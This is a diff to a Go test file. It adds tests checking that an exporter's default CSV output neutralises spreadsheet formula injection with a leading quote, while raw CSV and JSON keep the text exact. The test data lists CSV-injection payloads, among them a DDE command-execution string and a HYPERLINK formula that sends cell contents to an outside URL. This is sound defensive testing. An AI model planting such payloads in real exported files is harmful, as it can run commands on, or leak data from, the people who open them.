@@ -71,7 +71,12 @@ func checkHostile(t testing.TB, m *export.Memo, note string) {
 		t.Error("HTML cells or rows are unbalanced")
 	}
 
-	recs, err := csv.NewReader(strings.NewReader(write(t, "csv", m))).ReadAll()
+	checkSafeCSV(t, m)
+	var raw bytes.Buffer
+	if err := export.Write(&raw, "csv", m, export.Options{RawCSV: true}); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(&raw).ReadAll()
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -135,6 +140,66 @@ func checkHostile(t testing.TB, m *export.Memo, note string) {
 	}
 	if pdf := write(t, "pdf", m); !strings.HasPrefix(pdf, "%PDF-") {
 		t.Errorf("PDF starts %.10q", pdf)
+	}
+}
+
+// checkSafeCSV checks the CSV as written by default against the raw one:
+// the same records, no cell a spreadsheet would run as a formula, and each
+// cell the raw one or the raw one after a "'".
+func checkSafeCSV(t testing.TB, m *export.Memo) {
+	read := func(opt export.Options) [][]string {
+		var b bytes.Buffer
+		if err := export.Write(&b, "csv", m, opt); err != nil {
+			t.Fatal(err)
+		}
+		recs, err := csv.NewReader(&b).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		return recs
+	}
+	safe, raw := read(export.Options{}), read(export.Options{RawCSV: true})
+	if len(safe) != len(raw) {
+		t.Fatalf("safe CSV has %d records, raw %d", len(safe), len(raw))
+	}
+	for i := range safe {
+		for j, cell := range safe[i] {
+			if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
+				t.Errorf("CSV cell %q would run as a formula", cell)
+			}
+			if cell != raw[i][j] && cell != "'"+raw[i][j] {
+				t.Errorf("CSV cell %q, raw %q", cell, raw[i][j])
+			}
+		}
+	}
+}
+
+// TestCSVFormulas writes report text and notes that a spreadsheet would
+// run (the CSV-injection payloads of OWASP's guide) and checks that the
+// default CSV makes each of them inert with a leading "'", that --raw's
+// CSV and the JSON keep them exact, and that harmless cells are untouched.
+func TestCSVFormulas(t *testing.T) {
+	payloads := []string{"=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
+		`=HYPERLINK("http://example.org/?x="&A1,"click")`}
+	for _, p := range payloads {
+		m := hostileMemo(t, p)
+		var b bytes.Buffer
+		if err := export.Write(&b, "csv", m, export.Options{}); err != nil {
+			t.Fatal(err)
+		}
+		recs, err := csv.NewReader(&b).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		note := strings.NewReplacer("\r\n", "\n", "\r", "\n").Replace(p)
+		if got := recs[1][len(m.C.Docs)+3]; !strings.HasPrefix(got, "'"+note) {
+			t.Errorf("note %q: CSV cell %q, want it to start with a quote", p, got)
+		}
+		if got := recs[1][0]; strings.HasPrefix(got, "'") {
+			t.Errorf("harmless claim cell %q was changed", got)
+		}
+		checkSafeCSV(t, m)
+		checkHostile(t, m, p)
 	}
 }
 
